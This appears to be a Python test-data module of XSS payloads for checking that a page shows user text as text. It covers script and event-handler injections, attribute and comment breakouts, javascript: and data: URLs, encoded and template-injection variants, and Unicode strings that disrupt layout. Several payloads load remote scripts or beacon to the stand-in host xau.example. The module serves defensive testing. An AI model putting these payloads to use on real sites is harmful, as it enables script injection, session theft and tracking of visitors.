"""Which texts would be markup, code or a request elsewhere on a page that took them for more than text?

Shown as the text that they are, none of them does anything. `xau.example` is no host, so that a request to it is seen
and reaches nobody.
"""

PAYLOADS = [
    # Elements that run as they are parsed
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xau.example/x.js></SCRIPT>",
    "<script type=module>import('//xau.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    # Elements that run once something happens to them
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)//",
    "<svg onload=alert(1)></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>mở</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>chạy</marquee>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<x contenteditable onblur=alert(1) tabindex=1 autofocus>",
    # Out of an attribute, a comment, an element that holds text
    '"><script>alert(1)</script>',
    "'><img src=x onerror='alert(1)'>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "` onclick=alert(1) `",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></h2><math><mtext></mtext><script>alert(1)</script></math>",
    "</style><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    # Frames, objects, templates
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//xau.example/x.swf>",
    "<template><script>alert(1)</script></template>",
    # Addresses that are code
    "<a href='javascript:alert(1)'>bấm đây</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript://xau.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//xau.example/x",
    'x"><script>alert(1)</script>',
    # Nothing runs, but the page changes, or somebody elsewhere learns of it
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//xau.example/x.css>",
    "<base href=//xau.example><link rel=stylesheet href=//xau.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//xau.example'>",
    "<form action=//xau.example><button>gửi</button></form>",
    "<img src=//xau.example/dem.gif>",
    "<div style='position:fixed;inset:0;background:url(//xau.example)'>",
    "<table background=//xau.example/x.png><tr><td>",
    # Text that is markup only after one more reading
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "<%= alert(1) %> {% raw %} #{alert(1)}",
    "](javascript:alert(1)) ![x](//xau.example/x.png)",
]

# What only markup could have made of a text: looked for where texts are shown.
MADE_BY_MARKUP = (
    "script, img, svg, iframe, object, embed, style, form, math, base, link, meta, template, video, audio, marquee,"
    " table, input, [onerror], [onload], [ontoggle], [onfocus], [onclick], [onmouseover], [srcdoc], [style]"
)

# Nothing here is code, and yet it can tear a page apart: a direction that is never closed, marks piled up on a letter,
# a word wider than any window.
UNRULY = {
    "right-to-left": "Trước \u202eđảo chiều \u2067và \u200fnữa, không đóng lại. עברית và العربية.",
    "combining flood": "Z" + "\u0300\u0316\u0489" * 200 + "algo và ê" + "\u0323" * 500,
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇻🇳 👍🏽 " * 20 + "\ufe0f\u200d",
    "one word": "khôngngắt" * 1112,
    "soft hyphens and zero widths": "a\u00adb\u200bc\u200dd\u2060e\ufeff" * 300,
    "blanks": "a\u00a0\u2003\u3000\u202f\u2028\u2029\x85b",
}
